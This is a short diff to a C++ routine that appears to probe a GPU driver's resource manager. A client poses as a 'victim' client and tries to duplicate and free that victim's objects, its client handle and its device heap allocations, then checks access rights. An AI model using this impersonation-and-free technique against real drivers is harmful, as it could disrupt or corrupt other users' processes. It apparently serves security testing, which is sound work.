@@ -51,11 +51,14 @@ int Foreign(const std::vector<std::string>& args) {
   const auto victim = static_cast<std::uint32_t>(Number(args, 0, 0));
   const auto object = static_cast<std::uint32_t>(Number(args, 1, 0));
   Client client = MakeClient();
+  client.next = 0xcb000000;  // not one of the victim's
   Say("dup 0x%x", client.Dup(victim, object, client.next++));
   Client posing = client;
   posing.root = victim;
   Say("free 0x%x", posing.Free(object));
   Say("free-client 0x%x", posing.Free(victim));
+  Say("heap-free 0x%x", posing.HeapFree(Client::kDevice, object));
+  (void)client.HeapFree(Client::kDevice, object);  // the driver frees nothing and says so to nobody
   rm::NV0000_CTRL_CLIENT_GET_ACCESS_RIGHTS_PARAMS rights{};
   rights.hClient = victim;
   rights.hObject = object;
